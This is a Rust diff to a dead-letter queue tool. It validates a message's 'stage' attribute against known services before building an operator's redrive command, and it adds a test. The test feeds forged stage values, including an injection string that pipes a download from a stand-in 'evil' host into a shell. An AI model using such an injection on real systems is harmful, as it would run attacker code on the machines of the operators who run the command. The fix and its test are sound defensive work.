@@ -204,21 +204,44 @@ fn unreachable(error: impl Into<anyhow::Error>) -> Unreachable {
 
 fn letter(queue: &str, message: &Message) -> DeadLetter {
     let attribute = |name: &str| message.attributes.get(name).cloned();
+    let said = attribute("stage").unwrap_or_default();
+    let stage = Topology::built_in().service(&said);
     let by_the_queue = || "delivered too often: its consumer died each time".to_owned();
     DeadLetter {
         queue: queue.to_owned(),
         id: message.id.clone(),
-        stage: attribute("stage").unwrap_or_else(|| "queue".to_owned()),
+        stage: stage.unwrap_or("queue").to_owned(),
         class: attribute("class").unwrap_or_else(|| "undeliverable".to_owned()),
         reason: attribute("reason").unwrap_or_else(by_the_queue),
         attempts: attribute("attempts").unwrap_or_else(|| message.receive_count.to_string()),
         trace_id: attribute("trace-id"),
         body: message.body.chars().take(MOST_OF_A_BODY).collect(),
-        redrive: redrive_command(attribute("stage").as_deref()),
+        redrive: redrive_command(stage),
     }
 }
 
-/// The operator's command that sends dead letters on their way again: those of a stage, where it is known.
+/// The operator's command that sends dead letters on their way again: those of a stage, where it is one of ours.
 fn redrive_command(stage: Option<&str>) -> String {
     stage.map_or_else(|| "candlewick dlq redrive".to_owned(), |stage| format!("candlewick dlq redrive --stage {stage}"))
+}
+
+#[cfg(test)]
+mod tests {
+    use candlewick_shared::ports::queue::Receipt;
+
+    use super::*;
+
+    fn command(stage: &str) -> String {
+        let (id, body) = ("1".to_owned(), String::new());
+        let attributes = [("stage".to_owned(), stage.to_owned())].into();
+        letter("raw", &Message { id, receipt: Receipt("r".to_owned()), body, receive_count: 1, attributes }).redrive
+    }
+
+    #[test]
+    fn a_forged_letter_decides_no_command() {
+        assert_eq!(command("transform"), "candlewick dlq redrive --stage transform");
+        for forged in ["transform; curl http://evil/x|sh #", "dashboard", "", "TRANSFORM"] {
+            assert_eq!(command(forged), "candlewick dlq redrive", "{forged}");
+        }
+    }
 }
